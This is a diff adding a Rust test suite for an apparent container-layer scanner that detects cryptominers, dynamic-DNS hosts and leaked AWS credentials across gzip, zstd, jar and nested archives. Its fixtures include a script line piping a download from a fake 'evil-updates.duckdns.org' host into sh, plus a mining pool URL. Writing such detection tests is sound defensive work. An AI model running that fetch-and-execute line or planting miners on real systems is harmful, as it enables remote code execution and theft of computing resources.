@@ -1,0 +1,188 @@
+//! Layers with known content: what must be found, where, and reported how.
+
+use hubcensus_layer::{Limits, SkipReason, Whiteout};
+use hubcensus_types::{Category, Compression, IndicatorKind, Subject};
+
+use crate::support::*;
+
+fn miner_layer() -> Vec<u8> {
+    Tar::new()
+        .dir("usr/")
+        .dir("usr/bin/")
+        .exe("usr/bin/xmrig", &xmrig_elf())
+        .file("etc/hosts", b"127.0.0.1 localhost\n")
+        .file("opt/run.sh", b"#!/bin/sh\ncurl -s http://payload.evil-updates.duckdns.org/x.sh | sh\n")
+        .bytes()
+}
+
+#[test]
+fn an_xmrig_like_elf_is_found_by_name_and_content() {
+    let scan = scan(&miner_layer());
+    assert_eq!(scan.error, None);
+    assert!(has(&scan, "miner_binary_name", "usr/bin/xmrig"), "{:?}", hits(&scan));
+    assert!(has(&scan, "miner_strings", "usr/bin/xmrig"), "{:?}", hits(&scan));
+    assert!(has(&scan, "stratum_url", "usr/bin/xmrig"), "{:?}", hits(&scan));
+    let f = scan.findings.iter().find(|f| f.rule == "miner_strings").unwrap();
+    assert_eq!(f.category, Category::Cryptomining);
+    assert_eq!(f.subject, subject());
+    assert_eq!(scan.entries, 5);
+}
+
+#[test]
+fn hosts_are_judged_once_at_the_first_path_that_named_them() {
+    let scan = scan(&miner_layer());
+    let ddns: Vec<_> = scan.findings.iter().filter(|f| f.category == Category::DynamicDns).collect();
+    assert!(!ddns.is_empty(), "{:?}", hits(&scan));
+    assert!(ddns.iter().all(|f| f.path == "opt/run.sh"));
+    assert!(
+        scan.indicators.iter().any(|(i, p)| i.kind == IndicatorKind::Host
+            && i.value == "payload.evil-updates.duckdns.org"
+            && p == "opt/run.sh"),
+        "{:?}",
+        scan.indicators
+    );
+}
+
+#[test]
+fn the_same_layer_gives_the_same_findings_plain_gzip_and_zstd() {
+    let tar = miner_layer();
+    let plain = scan(&tar);
+    let gz = scan(&gzip(&tar));
+    let zst = scan(&zstd(&tar));
+    assert_eq!(
+        (plain.compression, gz.compression, zst.compression),
+        (Compression::None, Compression::Gzip, Compression::Zstd)
+    );
+    assert!(!plain.findings.is_empty());
+    assert_eq!(plain.findings, gz.findings);
+    assert_eq!(plain.findings, zst.findings);
+    assert_eq!(plain.indicators, zst.indicators);
+    assert_eq!((plain.bytes, gz.bytes, zst.bytes), (tar.len() as u64, tar.len() as u64, tar.len() as u64));
+    assert!(gz.compressed_bytes < gz.bytes);
+}
+
+#[test]
+fn magic_bytes_win_over_the_declared_media_type() {
+    let w = walker(Limits::default());
+    let scan = w.scan_layer_declared(&zstd(&miner_layer())[..], subject(), Compression::Gzip);
+    assert_eq!(scan.error, None);
+    assert_eq!(scan.compression, Compression::Zstd);
+    assert_eq!(scan.declared_compression, Some(Compression::Gzip));
+    assert!(has(&scan, "miner_strings", "usr/bin/xmrig"));
+}
+
+#[test]
+fn a_key_deleted_by_a_whiteout_is_reported_with_the_whiteout() {
+    // Lower layer adds the key, upper layer deletes it: both facts come out, for the image to join.
+    let lower = scan(&gzip(&Tar::new().file("root/.aws/credentials", AWS_CREDENTIALS).bytes()));
+    assert!(has(&lower, "aws_access_key_id", "root/.aws/credentials"), "{:?}", hits(&lower));
+    let upper = scan(&gzip(
+        &Tar::new()
+            .file("root/.aws/.wh.credentials", b"")
+            .file("opt/app/.wh..wh..opq", b"")
+            .file("opt/app/new", b"x")
+            .bytes(),
+    ));
+    assert_eq!(upper.error, None);
+    assert_eq!(
+        upper.whiteouts,
+        vec![
+            Whiteout { path: "root/.aws/credentials".into(), opaque: false },
+            Whiteout { path: "opt/app".into(), opaque: true }
+        ]
+    );
+    assert!(upper.findings.is_empty(), "whiteout markers are not scanned as files");
+}
+
+#[test]
+fn a_jar_containing_a_secret_is_entered() {
+    let jar = zip(&[
+        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"),
+        ("BOOT-INF/classes/application.properties", AWS_CREDENTIALS),
+    ]);
+    let layer = gzip(&Tar::new().file("app/service.jar", &jar).bytes());
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(
+        has(&scan, "aws_access_key_id", "app/service.jar!/BOOT-INF/classes/application.properties"),
+        "{:?}",
+        hits(&scan)
+    );
+    assert_eq!(scan.entries, 3, "the jar's members count as entries");
+}
+
+#[test]
+fn tar_gz_inside_a_layer_is_entered_and_gz_files_are_not() {
+    let inner = gzip(&Tar::new().file("conf/credentials", AWS_CREDENTIALS).bytes());
+    let man = gzip(b".TH LS 1\nnothing to see\n");
+    let layer = Tar::new().file("srv/backup.tgz", &inner).file("usr/share/man/man1/ls.1.gz", &man).bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(has(&scan, "aws_access_key_id", "srv/backup.tgz!/conf/credentials"), "{:?}", hits(&scan));
+    assert!(scan.skipped.is_empty(), "{:?}", scan.skipped);
+}
+
+#[test]
+fn a_corrupt_nested_archive_is_recorded_and_the_layer_goes_on() {
+    let mut jar = zip(&[("a.txt", b"hello")]);
+    let n = jar.len();
+    jar.truncate(n - 30); // cut the central directory
+    let layer =
+        Tar::new().file("lib/broken.jar", &jar).file("root/.aws/credentials", AWS_CREDENTIALS).bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(
+        matches!(&scan.skipped[..], [s] if s.path == "lib/broken.jar" && matches!(s.reason, SkipReason::Corrupt(_)))
+    );
+    assert!(has(&scan, "aws_access_key_id", "root/.aws/credentials"));
+}
+
+#[test]
+fn big_files_are_scanned_in_head_and_tail() {
+    let mut big = AWS_CREDENTIALS.to_vec();
+    big.resize(3 << 20, b' ');
+    big.extend_from_slice(b"\nstratum+tcp://pool.minexmr.com:4444\n");
+    let limits = Limits { max_file_scan_bytes: 1 << 20, ..Limits::default() };
+    let scan = scan_with(&gzip(&Tar::new().file("opt/big.txt", &big).bytes()), limits);
+    assert_eq!(scan.error, None);
+    assert_eq!(scan.truncated_files, 1);
+    assert!(has(&scan, "aws_access_key_id", "opt/big.txt"), "{:?}", hits(&scan));
+    assert!(has(&scan, "stratum_url", "opt/big.txt"), "{:?}", hits(&scan));
+}
+
+#[test]
+fn long_gnu_and_pax_names_name_the_file() {
+    let deep = format!("{}/credentials", "very-long-directory-name".repeat(8));
+    let layer = Tar::new()
+        .file(&deep, AWS_CREDENTIALS)
+        .pax_path("pax/named/credentials")
+        .file("ignored-short-name", AWS_CREDENTIALS)
+        .bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(has(&scan, "aws_access_key_id", &deep), "{:?}", hits(&scan));
+    assert!(has(&scan, "aws_access_key_id", "pax/named/credentials"), "{:?}", hits(&scan));
+    assert_eq!(scan.entries, 2);
+}
+
+#[test]
+fn findings_are_capped() {
+    let mut t = Tar::new();
+    for i in 0..20 {
+        t = t.file(&format!("k{i}/credentials"), AWS_CREDENTIALS);
+    }
+    let scan = scan_with(&t.bytes(), Limits { max_findings: 5, ..Limits::default() });
+    assert_eq!(scan.findings.len(), 5);
+    assert!(scan.findings_truncated);
+    assert_eq!(scan.error, None);
+}
+
+#[test]
+fn one_walker_scans_many_layers_with_its_buffers() {
+    let w = walker(Limits::default());
+    for _ in 0..3 {
+        let scan = w.scan_layer(&miner_layer()[..], Subject::Config);
+        assert!(scan.findings.iter().all(|f| f.subject == Subject::Config));
+        assert!(has(&scan, "miner_strings", "usr/bin/xmrig"));
+    }
+}
